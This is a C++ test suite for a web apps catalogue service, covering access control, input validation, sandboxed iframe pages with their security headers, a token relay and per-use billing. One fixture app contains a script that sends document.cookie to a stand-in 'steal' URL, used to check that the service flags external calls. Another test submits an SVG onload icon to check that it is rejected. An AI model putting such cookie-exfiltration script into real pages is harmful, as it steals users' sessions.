// The apps catalogue service against the real host (test profile: the bearer token is the account
// id): create -> read -> edit -> fork -> search -> embed -> test over /api/v1/apps, who sees what,
// the limits of html and price, unique slugs, one MCP call, bad input of every method (generated
// from its schema in /api/v1/openapi.json) answered 4xx, never 5xx, and the pages under
// /ui/apps/<slug>: the sandboxed frame, the Content-Security-Policy of each page, who may open
// them, the view token's relay, and a priced app's price charged per use through the real billing
// service. (What a browser does with them: apps_browser_test.cpp.)
#include <gtest/gtest.h>

#include <set>

#include "bad_inputs.hpp"
#include "catalogue_test.hpp"
#include "host_process.hpp"
#include "http_client.hpp"
#include "mcp_client.hpp"
#include "profiles.hpp"

using nlohmann::json;
using namespace platform::test;

namespace {

const std::string kHtml =
    "<!doctype html>\n<html><head><meta charset=\"utf-8\"><title>Notes count</title></head>\n"
    "<body><p id=\"n\">...</p>\n<script>\n"
    "platform.call('notes', 'list', {}).then(r => {\n"
    "  document.getElementById('n').textContent = r.notes.length + ' notes';\n"
    "});\n</script></body></html>\n";

class AppsApi : public CatalogueTest {
protected:
    AppsApi() : CatalogueTest("apps") {}
    json create(const json& body, const std::string& who) { return ok("create", body, who); }
};

TEST_F(AppsApi, CreateReadEditForkSearchEmbedTest) {
    // create: private by default, slug from the name, description from the name.
    json app =
        create({{"name", "Notes Count"}, {"html", kHtml}, {"tags", "notes, tools"}}, "ap-ann");
    ASSERT_TRUE(app.is_object());
    const std::string slug = app["slug"];
    EXPECT_EQ(slug.rfind("notes-count", 0), 0u) << slug;
    EXPECT_EQ(app["public"], false);
    EXPECT_EQ(app["description"], "Notes Count");
    EXPECT_EQ(app["price"], 0);

    // read: the owner sees the HTML; another account (or nobody) gets 404 for a private app.
    auto mine = get("read?slug=" + slug, "ap-ann");
    ASSERT_EQ(mine.status, 200) << mine.body;
    EXPECT_EQ(mine.json()["data"]["html"], kHtml);
    EXPECT_EQ(get("read?slug=" + slug, "ap-bob").status, 404);
    EXPECT_EQ(api.get("/api/v1/apps/read?slug=" + slug).status, 404);

    // edit: omitted fields keep their value; publishing is asked for explicitly.
    auto edited = post(
        "edit", {{"slug", slug}, {"description", "Counts your notes"}, {"public", true}}, "ap-ann");
    ASSERT_EQ(edited.status, 200) << edited.body;
    EXPECT_EQ(edited.json()["data"]["html"], kHtml);
    EXPECT_EQ(edited.json()["data"]["name"], "Notes Count");
    EXPECT_EQ(edited.json()["data"]["tags"], "notes, tools");
    EXPECT_EQ(post("edit", {{"slug", slug}, {"name", "Taken"}}, "ap-bob").status, 404);

    // Public now: others see the metadata, never the source.
    auto theirs = get("read?slug=" + slug, "ap-bob");
    ASSERT_EQ(theirs.status, 200) << theirs.body;
    EXPECT_FALSE(theirs.json()["data"].contains("html"));
    EXPECT_EQ(theirs.json()["data"]["description"], "Counts your notes");
    EXPECT_EQ(api.get("/api/v1/apps/read?slug=" + slug).status, 200);

    // fork: a private copy in bob's account under a new slug, with its source reference.
    json fork = ok("fork", {{"slug", slug}}, "ap-bob");
    ASSERT_TRUE(fork.is_object());
    const std::string copy = fork["slug"];
    EXPECT_NE(copy, slug);
    EXPECT_EQ(fork["owner"], "ap-bob");
    EXPECT_EQ(fork["public"], false);
    EXPECT_EQ(fork["html"], kHtml);
    EXPECT_EQ(fork["source"], (json{{"kind", "fork"}, {"slug", slug}}));
    EXPECT_EQ(get("read?slug=" + copy, "ap-ann").status, 404);
    json named = ok("fork", {{"slug", slug}, {"new_slug", "bobs-notes"}}, "ap-bob");
    EXPECT_EQ(named["slug"], "bobs-notes");

    // search and collection: the caller's own apps only.
    EXPECT_EQ(listed(get("search?query=notes", "ap-bob"), "apps", "slug"),
              (std::vector<std::string>{"bobs-notes", copy}));
    EXPECT_EQ(listed(get("search?tag=TOOLS", "ap-ann"), "apps", "slug"),
              std::vector<std::string>{slug});
    EXPECT_TRUE(listed(get("search?query=zebra", "ap-ann"), "apps", "slug").empty());
    auto collection = get("collection", "ap-bob");
    ASSERT_EQ(collection.status, 200) << collection.body;
    EXPECT_EQ(collection.json()["data"]["apps"].size(), 2u);
    EXPECT_EQ(collection.json()["data"]["sources"],
              json::array({{{"kind", "fork"}, {"slug", slug}}}));

    // embed: bob's private copy stays private and keeps its access.
    auto embed = get("embed?slug=" + copy, "ap-bob");
    ASSERT_EQ(embed.status, 200) << embed.body;
    EXPECT_EQ(embed.json()["data"]["published"], false);
    EXPECT_EQ(embed.json()["data"]["embed"]["visible_to"], "owner");
    EXPECT_EQ(embed.json()["data"]["embed"]["html"], kHtml);
    EXPECT_EQ(get("read?slug=" + copy, "ap-bob").json()["data"]["public"], false);
    EXPECT_EQ(get("embed?slug=" + copy, "ap-ann").status, 404);

    // test: the app calls only notes/list through the SDK: no problem.
    auto checked = post("test", {{"slug", copy}}, "ap-bob");
    ASSERT_EQ(checked.status, 200) << checked.body;
    EXPECT_EQ(checked.json()["data"]["ok"], true) << checked.body;
    EXPECT_EQ(checked.json()["data"]["calls_checked"], true);
    EXPECT_EQ(post("test", {{"slug", slug}}, "ap-bob").status, 404);
}

TEST_F(AppsApi, TestNamesEachProblemsRule) {
    const std::string html =
        "<div>\n<script>fetch('https://example.com/steal?c=' + document.cookie);\n"
        "platform.call('nosuch', 'method', {});</script>\n<img src=\"https://example.com/x.png\">";
    json app = create({{"name", "Leaky"}, {"html", html}}, "ap-check");
    auto r = post("test", {{"slug", app["slug"]}}, "ap-check");
    ASSERT_EQ(r.status, 200) << r.body;
    const json d = r.json()["data"];
    EXPECT_EQ(d["ok"], false);
    std::vector<std::string> rules;
    for (const auto& p : d["problems"])
        rules.push_back(p["rule"].get<std::string>() + "@" + std::to_string(p["line"].get<int>()));
    EXPECT_EQ(rules, (std::vector<std::string>{"well-formed@1", "external@2", "sandbox@2", "sdk@3",
                                               "external@4"}))
        << d.dump(2);
}

TEST_F(AppsApi, LimitsAndSlugs) {
    auto big =
        post("create", {{"name", "Big"}, {"html", std::string(256 * 1024 + 1, 'a')}}, "ap-lim");
    expect_400(big, "html");
    EXPECT_EQ(
        post("create", {{"name", "Big"}, {"html", std::string(256 * 1024, 'a')}}, "ap-lim").status,
        200);
    expect_400(post("create", {{"name", "P"}, {"html", "<p>x</p>"}, {"price", 1001}}, "ap-lim"),
               "price");
    expect_400(post("create", {{"name", "P"}, {"html", "<p>x</p>"}, {"price", -1}}, "ap-lim"),
               "price");
    EXPECT_EQ(create({{"name", "P"}, {"html", "<p>x</p>"}, {"price", 1000}}, "ap-lim")["price"],
              1000);
    expect_400(post("edit", {{"slug", "p"}, {"price", 1001}}, "ap-lim"), "price");
    expect_400(post("edit", {{"slug", "p"}, {"html", std::string(256 * 1024 + 1, 'a')}}, "ap-lim"),
               "html");
    expect_400(post("create", {{"html", "<p>x</p>"}}, "ap-lim"), "name");
    expect_400(post("create", {{"name", "x"}}, "ap-lim"), "html");
    expect_400(post("create", {{"name", "x"}, {"html", "h"}, {"slug", "Not A Slug"}}, "ap-lim"),
               "slug");
    expect_400(
        post("create", {{"name", "x"}, {"html", "h"}, {"icon", "<svg onload=\"x()\"></svg>"}},
             "ap-lim"),
        "icon");
    expect_400(post("create", {{"name", "x"}, {"html", "h"}, {"public", true}, {"private", true}},
                    "ap-lim"),
               "public");

    // The same slug asked for twice, by two accounts: the second gets a unique one.
    json first = create({{"name", "Dice"}, {"slug", "dice"}, {"html", "<p>6</p>"}}, "ap-one");
    json second = create({{"name", "Dice"}, {"slug", "dice"}, {"html", "<p>4</p>"}}, "ap-two");
    json third = create({{"name", "Dice"}, {"html", "<p>2</p>"}}, "ap-one");
    EXPECT_EQ(first["slug"], "dice");
    EXPECT_NE(second["slug"], "dice");
    EXPECT_NE(third["slug"], "dice");
    EXPECT_NE(third["slug"], second["slug"]);
    EXPECT_EQ(
        get("read?slug=" + second["slug"].get<std::string>(), "ap-two").json()["data"]["html"],
        "<p>4</p>");
    EXPECT_EQ(get("read?slug=dice", "ap-one").json()["data"]["html"], "<p>6</p>");

    // Access and verbs.
    EXPECT_EQ(api.post_json("/api/v1/apps/create", {{"name", "x"}, {"html", "h"}}).status, 401);
    EXPECT_EQ(api.get("/api/v1/apps/collection").status, 401);
    EXPECT_EQ(api.get("/api/v1/apps/create?name=x&html=h", as("ap-lim")).status, 405);
    EXPECT_EQ(get("read?slug=no-such-app", "ap-lim").status, 404);
}

TEST_F(AppsApi, McpMatchesHttp) {
    json app = create({{"name", "Mcp app"}, {"html", kHtml}}, "ap-mcp");
    McpClient mcp(host->api_port(), "ap-mcp");
    mcp.initialize();
    const json tool = mcp.call_tool("apps_read", {{"slug", app["slug"]}});
    ASSERT_FALSE(tool.value("isError", false)) << tool;
    EXPECT_EQ(tool["structuredContent"],
              get("read?slug=" + app["slug"].get<std::string>(), "ap-mcp").json()["data"]);
}

// Every apps method with inputs generated from its schema: a broken one is a 4xx naming the
// argument; one valid by the schema may succeed or be refused, never a 5xx.
TEST_F(AppsApi, BadInputsAre4xxNever5xx) {
    create({{"name", "Target"}, {"slug", "target"}, {"html", kHtml}, {"public", true}}, "sweeper");
    const json doc = api.get("/api/v1/openapi.json").json();
    int methods = 0, cases = 0;
    for (const auto& [path, item] : doc["paths"].items()) {
        if (path.rfind("/api/v1/apps/", 0) != 0) continue;
        ++methods;
        const json& op = item["post"];
        BadInputOptions options;
        options.max_body = op.value("x-platform-max-body", size_t(1) << 20);
        for (const BadInput& c :
             bad_inputs(op["requestBody"]["content"]["application/json"]["schema"], options)) {
            ++cases;
            Headers h = as("sweeper");
            h["Content-Type"] = "application/json";
            auto r = api.post(path, c.body(), h);
            EXPECT_LT(r.status, 500) << path << " " << c.label << ": " << r.body;
            if (c.valid_by_schema) continue;
            EXPECT_GE(r.status, 400) << path << " " << c.label << ": " << r.body;
            if (r.status == 400) {
                EXPECT_TRUE(names(r.json()["error"]["message"].get<std::string>(), c.argument))
                    << path << " " << c.label << ": " << r.body;
            }
        }
    }
    EXPECT_EQ(methods, 14);
    EXPECT_GT(cases, 100);
}

// The header's directives, each as "name value..." (trimmed).
std::set<std::string> directives(const std::string& csp) {
    std::set<std::string> out;
    size_t start = 0;
    while (start < csp.size()) {
        size_t end = csp.find(';', start);
        if (end == std::string::npos) end = csp.size();
        std::string d = csp.substr(start, end - start);
        d.erase(0, d.find_first_not_of(' '));
        d.erase(d.find_last_not_of(' ') + 1);
        if (!d.empty()) out.insert(d);
        start = end + 1;
    }
    return out;
}

TEST_F(AppsApi, PagesAreSandboxed) {
    json app = create({{"name", "Sandboxed <b>"}, {"html", kHtml}}, "ap-page");
    const std::string slug = app["slug"];
    EXPECT_EQ(app["url"], "/ui/apps/" + slug);

    // The wrapper: a frame with allow-scripts only, never allow-same-origin.
    auto page = api.get("/ui/apps/" + slug, as("ap-page"));
    ASSERT_EQ(page.status, 200) << page.body;
    EXPECT_EQ(page.header("content-type"), "text/html; charset=utf-8");
    EXPECT_NE(page.body.find("<iframe id=\"app\" title=\"Sandboxed &lt;b&gt;\" "
                             "sandbox=\"allow-scripts\" src=\"/ui/apps/" +
                             slug + "/frame\""),
              std::string::npos)
        << page.body;
    EXPECT_EQ(page.body.find("allow-same-origin"), std::string::npos);
    EXPECT_NE(page.body.find("event.source !== frame.contentWindow || event.origin !== 'null'"),
              std::string::npos);
    const std::string csp = page.header("content-security-policy");
    const auto d = directives(csp);
    EXPECT_TRUE(d.count("default-src 'none'")) << csp;
    EXPECT_TRUE(d.count("frame-src 'self'")) << csp;
    EXPECT_TRUE(d.count("connect-src 'self'")) << csp;
    EXPECT_TRUE(d.count("frame-ancestors 'self'")) << csp;
    // The one script and style carry the nonce the policy names, fresh for every answer.
    const size_t at = csp.find("'nonce-");
    ASSERT_NE(at, std::string::npos) << csp;
    const std::string nonce = csp.substr(at + 7, csp.find('\'', at + 7) - at - 7);
    EXPECT_GE(nonce.size(), 22u);
    EXPECT_TRUE(d.count("script-src 'nonce-" + nonce + "'")) << csp;
    EXPECT_NE(page.body.find("<script nonce=\"" + nonce + "\">"), std::string::npos);
    EXPECT_NE(api.get("/ui/apps/" + slug, as("ap-page")).header("content-security-policy"), csp);
    EXPECT_EQ(page.header("x-content-type-options"), "nosniff");
    EXPECT_EQ(page.header("x-frame-options"), "SAMEORIGIN");
    EXPECT_EQ(page.header("cache-control"), "private, no-store");

    // The frame: the app's HTML after the SDK helper, sandboxed by its own policy.
    auto frame = api.get("/ui/apps/" + slug + "/frame", as("ap-page"));
    ASSERT_EQ(frame.status, 200) << frame.body;
    EXPECT_EQ(frame.header("content-type"), "text/html; charset=utf-8");
    EXPECT_EQ(frame.body.rfind("<!doctype html><script>", 0), 0u) << frame.body.substr(0, 200);
    EXPECT_NE(frame.body.find("Object.defineProperty(window, 'platform'"), std::string::npos);
    EXPECT_NE(frame.body.find(kHtml.substr(std::string("<!doctype html>").size())),
              std::string::npos);
    const std::string fcsp = frame.header("content-security-policy");
    const auto f = directives(fcsp);
    EXPECT_EQ(fcsp.rfind("sandbox allow-scripts;", 0), 0u) << fcsp;
    EXPECT_TRUE(f.count("default-src 'none'")) << fcsp;
    EXPECT_TRUE(f.count("connect-src 'none'")) << fcsp;
    EXPECT_TRUE(f.count("form-action 'none'")) << fcsp;
    EXPECT_TRUE(f.count("frame-ancestors 'self'")) << fcsp;
    EXPECT_EQ(fcsp.find("allow-same-origin"), std::string::npos);
    EXPECT_EQ(frame.header("x-content-type-options"), "nosniff");

    // Private: another account and nobody get 404 for both pages; published, anyone may open.
    for (const std::string& path : {"/ui/apps/" + slug, "/ui/apps/" + slug + "/frame"}) {
        EXPECT_EQ(api.get(path, as("ap-other")).status, 404) << path;
        EXPECT_EQ(api.get(path).status, 404) << path;
    }
    ASSERT_EQ(post("edit", {{"slug", slug}, {"public", true}}, "ap-page").status, 200);
    EXPECT_EQ(api.get("/ui/apps/" + slug).status, 200);
    EXPECT_EQ(api.get("/ui/apps/" + slug + "/frame", as("ap-other")).status, 200);
    EXPECT_EQ(api.get("/ui/apps/no-such-app").status, 404);
    const int bad = api.get("/ui/apps/Not%20A%20Slug").status;
    EXPECT_TRUE(bad >= 400 && bad < 500) << bad;
}

// The view token in a page's frame element (data-view), or "".
std::string view_of(const std::string& page) {
    const std::string attr = "data-view=\"";
    const size_t at = page.find(attr);
    if (at == std::string::npos) return "";
    const size_t start = at + attr.size();
    return page.substr(start, page.find('"', start) - start);
}

TEST_F(AppsApi, TheBridgeRelaysCallsAsTheViewerWithItsViewToken) {
    ASSERT_EQ(api.post_json("/api/v1/notes/add", {{"title", "relay"}, {"text", "ann's"}},
                            as("ap-rel-ann"))
                  .status,
              200);
    ASSERT_EQ(api.post_json("/api/v1/notes/add", {{"title", "relay"}, {"text", "bob's"}},
                            as("ap-rel-bob"))
                  .status,
              200);
    json app = create({{"name", "Relay"}, {"html", kHtml}, {"public", true}}, "ap-rel-ann");
    const std::string slug = app["slug"];
    auto page = api.get("/ui/apps/" + slug, as("ap-rel-ann"));
    ASSERT_EQ(page.status, 200) << page.body;
    EXPECT_EQ(page.body.find("platform_csrf"), std::string::npos);  // no cookie is used
    const std::string view = view_of(page.body);
    ASSERT_EQ(view.size(), 24u) << page.body;
    // Each opening gets its own token.
    EXPECT_NE(view_of(api.get("/ui/apps/" + slug, as("ap-rel-ann")).body), view);

    // With no credential but the token, a call acts as the viewer.
    auto relay = [&](const std::string& token, const std::string& service,
                     const std::string& method, const std::string& who = "") {
        json body = {
            {"view", token}, {"service", service}, {"method", method}, {"args", json::object()}};
        return who.empty() ? api.post_json("/api/v1/apps/relay", body)
                           : api.post_json("/api/v1/apps/relay", body, as(who));
    };
    auto mine = relay(view, "notes", "list");
    ASSERT_EQ(mine.status, 200) << mine.body;
    EXPECT_NE(mine.body.find("ann's"), std::string::npos) << mine.body;
    EXPECT_EQ(mine.body.find("bob's"), std::string::npos) << mine.body;
    // Another viewer of the same public app acts as themselves.
    const std::string bobs = view_of(api.get("/ui/apps/" + slug, as("ap-rel-bob")).body);
    auto theirs = relay(bobs, "notes", "list");
    ASSERT_EQ(theirs.status, 200) << theirs.body;
    EXPECT_NE(theirs.body.find("bob's"), std::string::npos) << theirs.body;
    EXPECT_EQ(theirs.body.find("ann's"), std::string::npos) << theirs.body;
    // Only what the viewer may call from an app: not apps' own building or relaying, not the
    // work queue's internal methods.
    for (const auto& [service, method] : std::vector<std::pair<std::string, std::string>>{
             {"apps", "build"}, {"apps", "relay"}, {"work", "from_call"}, {"apps", "build_run"}}) {
        auto refused = relay(view, service, method);
        EXPECT_EQ(refused.status, 403) << service << "/" << method << " " << refused.body;
        EXPECT_NE(refused.body.find("service, method"), std::string::npos) << refused.body;
    }
    EXPECT_EQ(relay(view, "apps", "read").status, 400);  // callable, its argument missing
    // An unknown token is 401; a malformed one 400.
    EXPECT_EQ(relay(std::string(24, 'A'), "notes", "list").status, 401);
    EXPECT_EQ(relay("short", "notes", "list").status, 400);
    // An anonymous viewer's page acts anonymously, even if a credential comes along later.
    const std::string anon = view_of(api.get("/ui/apps/" + slug).body);
    ASSERT_EQ(anon.size(), 24u);
    EXPECT_EQ(relay(anon, "notes", "list").status, 403);  // not a method of anonymous callers
    auto read = api.post_json(
        "/api/v1/apps/relay",
        {{"view", anon}, {"service", "apps"}, {"method", "read"}, {"args", {{"slug", slug}}}});
    ASSERT_EQ(read.status, 200) << read.body;
    EXPECT_EQ(read.json()["data"]["slug"], slug);
    EXPECT_FALSE(read.json()["data"].contains("html"));  // as anyone else sees it
    auto mixed = relay(anon, "notes", "list", "ap-rel-bob");
    EXPECT_EQ(mixed.status, 400) << mixed.body;
    EXPECT_NE(mixed.body.find("without an account"), std::string::npos) << mixed.body;
}

// A priced app's price per use through the real billing service: the first opening of the page per
// viewer and day takes the price from the viewer's credit and adds it to the owner's; the frame
// opens only with that use; 401, 402, the owner and free apps.
class AppsPricing : public AppsApi {
protected:
    HttpResult rpc(const std::string& method, const json& request) {
        return api.post_json("/rpc",
                             {{"service", "billing"}, {"method", method}, {"request", request}},
                             as("admin"));
    }
    // allowance + credit of `who`, as billing/balance answers it.
    json balance(const std::string& who) {
        auto r = rpc("Billing.Balance", {{"account", who}});
        EXPECT_EQ(r.status, 200) << r.body;
        return r.status == 200 ? r.json() : json::object();
    }
    // No allowance, `credit` of prepaid credit: what a use costs shows in `credit` alone.
    void fund(const std::string& who, int64_t credit) {
        ASSERT_EQ(rpc("Billing.SetAllowance", {{"account", who}, {"allowance_per_day", 0}}).status,
                  200);
        if (credit > 0) {
            ASSERT_EQ(rpc("Billing.AddCredit", {{"account", who}, {"amount", credit}}).status, 200);
        }
    }
    HttpResult open(const std::string& slug, const std::string& who, bool frame = false) {
        const std::string path = "/ui/apps/" + slug + (frame ? "/frame" : "");
        return who.empty() ? api.get(path) : api.get(path, as(who));
    }
    json app_read(const std::string& slug, const std::string& who) {
        auto r = get("read?slug=" + slug, who);
        EXPECT_EQ(r.status, 200) << r.body;
        return r.status == 200 ? r.json()["data"] : json::object();
    }
};

TEST_F(AppsPricing, AViewerPaysOncePerDayAndTheOwnerIsCredited) {
    json app =
        create({{"name", "Priced"}, {"html", kHtml}, {"public", true}, {"price", 7}}, "pr-owner");
    const std::string slug = app["slug"];
    fund("pr-owner", 0);
    fund("pr-viewer", 50);
    const int64_t owner_before = balance("pr-owner")["credit"];
    EXPECT_EQ(app_read(slug, "pr-viewer")["paid_today"], false);
    EXPECT_EQ(app_read(slug, "pr-viewer")["price"], 7);

    // The frame cannot be opened first to go round the price.
    auto direct = open(slug, "pr-viewer", true);
    EXPECT_EQ(direct.status, 402) << direct.body;
    EXPECT_EQ(balance("pr-viewer")["credit"], 50);

    auto first = open(slug, "pr-viewer");
    ASSERT_EQ(first.status, 200) << first.body;
    EXPECT_NE(first.body.find("<iframe id=\"app\""), std::string::npos);
    EXPECT_EQ(balance("pr-viewer")["credit"], 43);
    EXPECT_EQ(balance("pr-owner")["credit"], owner_before + 7);
    EXPECT_EQ(app_read(slug, "pr-viewer")["paid_today"], true);
    auto embed = get("embed?slug=" + slug, "pr-viewer");
    ASSERT_EQ(embed.status, 200) << embed.body;
    EXPECT_EQ(embed.json()["data"]["app"]["paid_today"], true);
    EXPECT_EQ(embed.json()["data"]["app"]["price"], 7);
    ASSERT_EQ(open(slug, "pr-viewer", true).status, 200);

    // Again the same day: free.
    ASSERT_EQ(open(slug, "pr-viewer").status, 200);
    ASSERT_EQ(open(slug, "pr-viewer", true).status, 200);
    EXPECT_EQ(balance("pr-viewer")["credit"], 43);
    EXPECT_EQ(balance("pr-owner")["credit"], owner_before + 7);

    // The next business day: a new use.
    tick(24LL * 3600 * 1000);
    EXPECT_EQ(app_read(slug, "pr-viewer")["paid_today"], false);
    EXPECT_EQ(open(slug, "pr-viewer", true).status, 402);
    ASSERT_EQ(open(slug, "pr-viewer").status, 200);
    EXPECT_EQ(balance("pr-viewer")["credit"], 36);
    EXPECT_EQ(balance("pr-owner")["credit"], owner_before + 14);
    ASSERT_EQ(open(slug, "pr-viewer").status, 200);
    EXPECT_EQ(balance("pr-viewer")["credit"], 36);
}

TEST_F(AppsPricing, ShortAnonymousOwnerAndFree) {
    json app =
        create({{"name", "Dear"}, {"html", kHtml}, {"public", true}, {"price", 9}}, "pr-seller");
    const std::string slug = app["slug"];
    fund("pr-seller", 0);
    fund("pr-broke", 4);
    const int64_t seller_before = balance("pr-seller")["credit"];

    // Short of credit: 402 naming the price and the balance; nothing charged or credited.
    auto refused = open(slug, "pr-broke");
    EXPECT_EQ(refused.status, 402) << refused.body;
    EXPECT_NE(refused.body.find("costs 9 credit(s); you have 4"), std::string::npos)
        << refused.body;
    EXPECT_EQ(refused.json()["Code"], 402) << refused.body;  // the pages' error body
    EXPECT_EQ(open(slug, "pr-broke", true).status, 402);
    EXPECT_EQ(balance("pr-broke")["credit"], 4);
    EXPECT_EQ(balance("pr-seller")["credit"], seller_before);
    EXPECT_EQ(app_read(slug, "pr-broke")["paid_today"], false);

    // Anonymous: 401 saying an account is needed, for the page and the frame.
    auto anon = open(slug, "");
    EXPECT_EQ(anon.status, 401) << anon.body;
    EXPECT_NE(anon.body.find("an account is needed to use a priced app"), std::string::npos)
        << anon.body;
    EXPECT_EQ(open(slug, "", true).status, 401);
    EXPECT_EQ(api.get("/api/v1/apps/read?slug=" + slug).json()["data"]["paid_today"], false);

    // The owner never pays for their own app.
    ASSERT_EQ(open(slug, "pr-seller").status, 200);
    ASSERT_EQ(open(slug, "pr-seller", true).status, 200);
    EXPECT_EQ(balance("pr-seller")["credit"], seller_before);
    EXPECT_FALSE(app_read(slug, "pr-seller").contains("paid_today"));

    // A free app charges nobody, anonymous viewers included.
    json free_app = create({{"name", "Gratis"}, {"html", kHtml}, {"public", true}}, "pr-seller");
    const std::string free_slug = free_app["slug"];
    ASSERT_EQ(open(free_slug, "pr-broke").status, 200);
    ASSERT_EQ(open(free_slug, "pr-broke", true).status, 200);
    ASSERT_EQ(open(free_slug, "").status, 200);
    EXPECT_EQ(balance("pr-broke")["credit"], 4);
    EXPECT_EQ(balance("pr-seller")["credit"], seller_before);
    EXPECT_EQ(app_read(free_slug, "pr-broke")["paid_today"], true);

    // Topped up, the same viewer pays and is in.
    ASSERT_EQ(rpc("Billing.AddCredit", {{"account", "pr-broke"}, {"amount", 5}}).status, 200);
    ASSERT_EQ(open(slug, "pr-broke").status, 200);
    EXPECT_EQ(balance("pr-broke")["credit"], 0);
    EXPECT_EQ(balance("pr-seller")["credit"], seller_before + 9);
}

// The same pages from the plugin in its own worker process: the headers cross the worker's
// channel (the op respond_raw_headers) unchanged.
class AppsIsolated : public SharedHostTest {
protected:
    static void SetUpTestSuite() {
        HostProcess::Options o;
        o.profile =
            test_profile_with(suite_dir() + "/apps-isolated.yaml", "isolation: {apps: process}");
        start_host(o);
    }
};

TEST_F(AppsIsolated, PagesKeepTheirHeadersFromAWorker) {
    auto made =
        api.post_json("/api/v1/apps/create", {{"name", "Far away"}, {"html", kHtml}}, as("ap-far"));
    ASSERT_EQ(made.status, 200) << made.body;
    const std::string slug = made.json()["data"]["slug"];
    auto frame = api.get("/ui/apps/" + slug + "/frame", as("ap-far"));
    ASSERT_EQ(frame.status, 200) << frame.body;
    EXPECT_EQ(frame.header("content-security-policy").rfind("sandbox allow-scripts;", 0), 0u);
    EXPECT_EQ(frame.header("x-frame-options"), "SAMEORIGIN");
    auto page = api.get("/ui/apps/" + slug, as("ap-far"));
    ASSERT_EQ(page.status, 200) << page.body;
    EXPECT_NE(page.header("content-security-policy").find("'nonce-"), std::string::npos);
    EXPECT_EQ(api.get("/ui/apps/" + slug).status, 404);
}

}  // namespace
